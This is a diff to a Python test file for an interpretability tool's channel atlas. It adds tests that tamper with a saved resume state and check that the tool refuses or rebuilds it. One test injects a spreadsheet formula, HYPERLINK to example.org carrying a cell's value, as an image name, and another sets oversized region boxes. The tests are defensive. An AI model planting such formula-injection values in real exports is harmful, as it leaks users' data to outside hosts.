@@ -20,7 +20,7 @@ import yaml
 from torch import nn
 
 from conftest import IMAGES
-from helpers import interrupted, refused, tiny_net
+from helpers import cli, interrupted, refused, tiny_net
 from explain.channels.ablation import Ablator, Rows
 from explain.channels.atlas import AtlasState, ImageAtlas, unzip
 from explain.config import load_config
@@ -361,7 +361,9 @@ def read_state(data: bytes) -> AtlasState:
     like = AtlasState(header["channels"], header["n"], top_k=header["top_k"],
                       crop=header["crop"], seed=header["seed"], ks=header["ks"],
                       boot=header["boot"])
-    return AtlasState.from_bytes(data, "state.zip", like)
+    named = [*header["contribution"], *header["shares"], *header["weak"]]
+    return AtlasState.from_bytes(data, "state.zip", like, classes={n[0] for n in named},
+                                 methods={n[1] for n in named} | {m for m, _ in header["ablation"]})
 
 
 def test_a_rerun_writes_the_same_bytes_and_ranks_merge_to_one_process_state(small):
@@ -448,3 +450,57 @@ def test_a_run_of_many_classes_keeps_means_without_intervals():
     assert all(c.low is None and c.high is None for c in bare.channels)
     assert all(c.low <= c.share <= c.high for c in full.channels)
     assert BOOT_CLASSES == 20
+
+
+def test_a_shared_state_of_made_up_regions_and_names_is_rebuilt_from_the_parts(small):
+    """The ninth attack: --resume took a shared state.zip's region boxes (20,000 px a side:
+    1.1 GiB a crop) and image names (a formula in regions.csv; 20,000 characters fitted to a
+    caption one character at a time) as they were. Such a state is not used: a note says
+    why, and the atlas is the one the kept images' parts make, byte for byte."""
+    import io
+    import zipfile
+    path, reference = small / "exp.yaml", atlas_files(small / "results" / "exp")
+    for change in ("boxes", "name"):
+        run_dir = interrupted(path, small / change, "batch", 3)
+        state = run_dir / "channels/atlas/state.zip"
+        with zipfile.ZipFile(state) as z:
+            members = {n: z.read(n) for n in z.namelist()}
+        header = json.loads(members["header.json"])
+        if change == "name":
+            key, _ = header["names"][0]
+            header["names"][0] = [key, '=HYPERLINK("https://example.org/?"&A2)']
+        else:
+            boxes = np.load(io.BytesIO(members["a.boxes.npy"]))
+            boxes[..., 2:4] = 20_000
+            buf = io.BytesIO()
+            np.save(buf, boxes)
+            members["a.boxes.npy"] = buf.getvalue()
+        members["header.json"] = json.dumps(header).encode()
+        with zipfile.ZipFile(state, "w") as z:
+            for n, data in members.items():
+                z.writestr(n, data)
+        summary = run(load_config(path), RunOptions(out_root=small / change, resume=True,
+                                                     **QUIET))
+        why = "an image name that is not its key's" if change == "name" else \
+            "a region outside any input"
+        assert any(n.startswith(f"channels.atlas: {state}: not an atlas state") and why in n
+                   and n.endswith("the atlas is rebuilt from the kept images' parts")
+                   for n in summary.notes), summary.notes
+        assert atlas_files(run_dir) == reference
+
+
+def test_a_part_of_made_up_maps_stops_the_resume_in_one_line(small, capsys):
+    """A kept image's part naming a class the run does not explain (its maps became
+    contribution tables of that name) is damage: one line naming the part."""
+    from explain.channels.atlas import zip_bytes
+    path = small / "exp.yaml"
+    run_dir = interrupted(path, small / "part", "batch", 3)
+    (run_dir / "channels/atlas/state.zip").unlink()  # every kept image from its part
+    part = sorted((run_dir / "channels/atlas/images").iterdir())[0]
+    header, arrays = unzip(part.read_bytes())
+    header["maps"][0][0] = "m0"
+    part.write_bytes(zip_bytes(header, arrays))
+    code, err, _ = cli(capsys, path, "--resume", "--out", small / "part", "--quiet")
+    assert code == 2 and err.strip().splitlines()[-1] == (
+        f"explain: error: {part}: a map of 'm0' by 'gradcam', not a class and method of this "
+        f"run; the run folder is damaged"), err
